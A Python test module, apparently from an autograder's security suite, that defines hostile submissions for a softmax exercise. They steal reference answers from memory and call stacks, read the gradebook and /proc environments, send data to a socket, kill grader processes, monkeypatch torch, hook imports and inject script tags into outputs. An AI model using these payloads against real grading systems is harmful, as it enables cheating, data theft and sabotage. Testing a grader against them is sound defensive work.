"""Reaching out: for the reference, the gradebook, others' work, the instructor's machine and the network."""

from __future__ import annotations

from attacks import RIGHT, WRONG, attack

FULL = {"softmax": 1.0}


@attack()
def searches_memory_for_the_reference() -> str:
    """Looks through all objects for another function of the same name, and uses it."""
    return (
        "import gc\n"
        "found = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'softmax' and hasattr(o, '__code__')\n"
        "         and 'torch' not in o.__code__.co_filename]\n"
        "print('found', [f.__code__.co_filename for f in found])\n"
        "def softmax(x):\n    return next(f for f in found if 'solutions' in f.__code__.co_filename)(x)\n"
    )


@attack()
def searches_the_stack() -> str:
    """Looks through the variables of all callers for expected values."""
    return (
        "import sys\n"
        "def softmax(x):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for name in ('expected', 'reference', 'answer', 'solution'):\n"
        "            if name in frame.f_locals or name in frame.f_globals:\n"
        "                return frame.f_locals.get(name, frame.f_globals.get(name))\n"
        "        frame = frame.f_back\n"
        "    return x\n"
    )


@attack()
def imports_the_answers() -> str:
    """Imports solutions and checks, or reads their files."""
    return WRONG + (
        "import glob, importlib, sys\n"
        "for name in ('solutions.cross_entropy', 'autograder.checks.cross_entropy.softmax', 'autograder.authoring.variants'):\n"
        "    try:\n"
        "        softmax = importlib.import_module(name).softmax\n"
        "        print('LEAKED', name)\n"
        "    except Exception as error:\n        print(type(error).__name__)\n"
        "import autograder, os\n"
        "root = os.path.dirname(os.path.dirname(autograder.__file__))\n"
        "for path in glob.glob(root + '/solutions/*') + glob.glob(root + '/autograder/checks/*/*'):\n"
        "    print('LEAKED', path)\n"
    )


@attack()
def reads_the_gradebook() -> str:
    """Opens the gradebook, the released sources and others' work, by every path that it can think of."""
    return WRONG + (
        "import glob, os\n"
        "for base in ('.', '..', '../..', '../../..', '@COURSE@', '/home', '/root', '/srv', '/tmp'):\n"
        "    for name in ('gradebook.db', 'submitted', 'source', 'autograded', '.autograder', 'nbgrader_config.py'):\n"
        "        if os.path.exists(os.path.join(base, name)):\n            print('LEAKED', base, name)\n"
        "print(os.listdir('/'))\n"
    )


@attack()
def reads_the_environment() -> str:
    """Prints the environment of its own process and of all others."""
    return WRONG + (
        "import glob, os\n"
        "print(dict(os.environ))\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n        print(open(path).read())\n    except OSError:\n        pass\n"
    )


@attack()
def writes_outside() -> str:
    """Leaves a file wherever it can."""
    return WRONG + (
        "import os\n"
        "for place in ('@COURSE@', '@COURSE@/submitted/honest', '/tmp', '/var/tmp', os.path.expanduser('~'), '..', '/dev/shm'):\n"
        "    try:\n        open(os.path.join(place, '@MARK@'), 'w').write('here')\n    except OSError:\n        pass\n"
    )


@attack()
def replaces_the_kit() -> str:
    """Overwrites the kit and torch for those who come next."""
    return WRONG + (
        "import autograder.beside.observe, torch\n"
        "for module in (autograder.beside.observe, torch):\n"
        "    try:\n        open(module.__file__, 'a').write('\\n# @MARK@\\n')\n"
        "    except OSError as error:\n        print(error)\n"
    )


@attack()
def uses_the_network() -> str:
    """Sends what it knows to a port of this machine."""
    return WRONG + (
        "import socket\n"
        "for address in ('127.0.0.1', '@ADDRESS@'):\n"
        "    try:\n"
        "        socket.create_connection((address, int('@PORT@')), timeout=1).sendall(b'stolen')\n"
        "        print('LEAKED')\n"
        "    except OSError as error:\n        print(error)\n"
    )


@attack()
def kills_its_parent() -> str:
    """Signals its parent, its group and everybody."""
    return WRONG + (
        "import os, signal\n"
        "for who in (os.getppid(), 0 - os.getppid(), 1, -1):\n"
        "    try:\n        os.kill(who, signal.SIGTERM)\n    except (OSError, ValueError):\n        pass\n"
    )


@attack()
def kills_its_grader_while_observed() -> str:
    """Waits until it is observed, then kills all that it can."""
    return "import os, signal\ndef softmax(x):\n    os.kill(-1, signal.SIGKILL)\n    os.kill(os.getppid(), signal.SIGKILL)\n    return x\n"


@attack()
def stays_behind() -> str:
    """Leaves a process of its own that writes later."""
    return WRONG + (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setpgid(0, 0)\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(3)\n"
        "        for place in ('/tmp', '@COURSE@'):\n"
        "            try:\n                open(place + '/@MARK@', 'w').write('later')\n            except OSError:\n                pass\n"
        "        time.sleep(600)\n"
        "    os._exit(0)\n"
    )


@attack()
def becomes_another_program() -> str:
    """Replaces itself by a shell that writes observations."""
    return WRONG + "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo {\\\"done\\\": true} >&3; exit 0'])"


@attack()
def poisons_the_next() -> str:
    """Changes torch and IPython in memory, for whoever is graded next in the same process."""
    return WRONG + (
        "import torch, builtins\n"
        "torch.Tensor.exp = lambda self: self\n"
        "torch.Tensor.sum = lambda self, *a, **k: self\n"
        "builtins.len = lambda x: 7\n"
        "torch.set_default_dtype(torch.float64)\n"
        "torch.set_grad_enabled(False)\n"
    )


@attack()
def import_hook() -> str:
    """Puts itself between every later import and what is imported."""
    return WRONG + (
        "import sys\n"
        "class Hook:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        raise ImportError('no ' + name)\n"
        "sys.meta_path.insert(0, Hook())\n"
        "for name in [n for n in sys.modules if n.startswith(('autograder', 'json', 'random'))]:\n"
        "    del sys.modules[name]\n"
    )


@attack(earns=FULL)
def at_exit() -> str:
    """Is right, and has something done at the exit of its process."""
    return (
        RIGHT + "import atexit, os\natexit.register(lambda: open('/tmp/@MARK@', 'w'))\natexit.register(os._exit, 0)\n"
    )


@attack()
def markup_in_outputs() -> str:
    """Shows HTML and JavaScript, which would run in the browser of the person who grades."""
    return WRONG + (
        "from IPython.display import HTML, Javascript, SVG, display\n"
        "display(HTML('<script>@SCRIPT@</script>'), Javascript('@SCRIPT@'))\n"
        "display({'text/html': '<img src=x onerror=@SCRIPT@>', 'application/javascript': '@SCRIPT@',\n"
        "         'image/svg+xml': '<svg onload=@SCRIPT@>', 'image/png': '\"><script>@SCRIPT@'}, raw=True)\n"
        "raise ValueError('<script>@SCRIPT@</script>')\n"
    )
